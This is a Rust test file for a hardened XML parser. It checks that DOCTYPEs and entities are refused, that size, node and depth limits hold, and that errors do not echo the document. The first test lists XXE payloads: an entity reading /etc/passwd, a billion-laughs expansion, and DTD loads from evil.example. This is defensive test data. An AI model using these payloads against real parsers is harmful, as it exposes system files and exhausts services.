//! Untrusted XML: no DTD, bounded size and depth.
#![cfg(feature = "xml")]

use secure::sink::xml::{XmlError, XmlLimits, parse};

#[test]
fn refuses_doctypes_and_entities() {
    let attacks = [
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>"#,
        r#"<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>"#,
        r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>"#,
        "<!DOCTYPE html><r/>",
    ];
    for attack in attacks {
        assert_eq!(
            parse(attack, XmlLimits::default()).unwrap_err(),
            XmlError::Doctype,
            "{attack}"
        );
    }
    // An undeclared entity is malformed, not expanded.
    assert_eq!(
        parse("<r>&x;</r>", XmlLimits::default()).unwrap_err(),
        XmlError::Malformed
    );
}

#[test]
fn bounds_size_nodes_and_depth() {
    let limits = XmlLimits {
        max_bytes: 64,
        max_nodes: 10,
        max_depth: 3,
    };

    // Each limit is inclusive: the document at the limit parses, one more is refused with
    // the error that names the limit.
    let at_size = format!("<r>{}</r>", "x".repeat(57));
    assert_eq!(at_size.len(), 64);
    assert!(parse(&at_size, limits).is_ok());
    assert_eq!(
        parse(&format!("<r>{}</r>", "x".repeat(58)), limits).unwrap_err(),
        XmlError::TooLarge
    );

    // roxmltree counts the document node, the root element and each child.
    assert!(parse("<r><a/><a/><a/><a/><a/><a/><a/><a/></r>", limits).is_ok());
    assert_eq!(
        parse("<r><a/><a/><a/><a/><a/><a/><a/><a/><a/></r>", limits).unwrap_err(),
        XmlError::TooManyNodes
    );

    assert!(parse("<a><b><c/></b></a>", limits).is_ok());
    assert_eq!(
        parse("<a><b><c><d/></c></b></a>", limits).unwrap_err(),
        XmlError::TooDeep
    );
}

#[test]
fn deep_nesting_is_refused_as_too_deep() {
    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    let limits = XmlLimits {
        max_bytes: 1 << 20,
        max_nodes: u32::MAX,
        max_depth: 64,
    };
    assert_eq!(parse(&deep, limits).unwrap_err(), XmlError::TooDeep);
    // Under the default limits, a nesting that stays within the node count is too deep.
    let deep = format!("{}{}", "<a>".repeat(50_000), "</a>".repeat(50_000));
    assert_eq!(
        parse(&deep, XmlLimits::default()).unwrap_err(),
        XmlError::TooDeep
    );

    let at_depth = format!("{}{}", "<a>".repeat(64), "</a>".repeat(64));
    assert!(parse(&at_depth, limits).is_ok());
    let below = format!("{}{}", "<a>".repeat(65), "</a>".repeat(65));
    assert_eq!(parse(&below, limits).unwrap_err(), XmlError::TooDeep);
}

#[test]
fn limit_errors_do_not_echo_the_document() {
    let limits = XmlLimits {
        max_bytes: 64,
        max_nodes: 10,
        max_depth: 3,
    };
    for document in [
        "<secret>hunter2hunter2hunter2hunter2hunter2hunter2hunter2hunter2</secret>",
        "<hunter2><a/><a/><a/><a/><a/><a/><a/><a/><a/><a/></hunter2>",
        "<hunter2><a><b><c/></b></a></hunter2>",
        "<!DOCTYPE hunter2><hunter2/>",
        "<hunter2>",
    ] {
        let error = parse(document, limits).unwrap_err();
        assert!(!error.to_string().contains("hunter2"), "{error}");
        assert!(!format!("{error:?}").contains("hunter2"), "{error:?}");
    }
}

#[test]
fn parses_ordinary_documents() {
    let doc = parse(
        r#"<order id="7"><item sku="a&amp;b">2</item></order>"#,
        XmlLimits::default(),
    )
    .unwrap();
    let item = doc
        .descendants()
        .find(|node| node.has_tag_name("item"))
        .unwrap();
    assert_eq!(item.attribute("sku"), Some("a&b"));
    assert_eq!(item.text(), Some("2"));
}
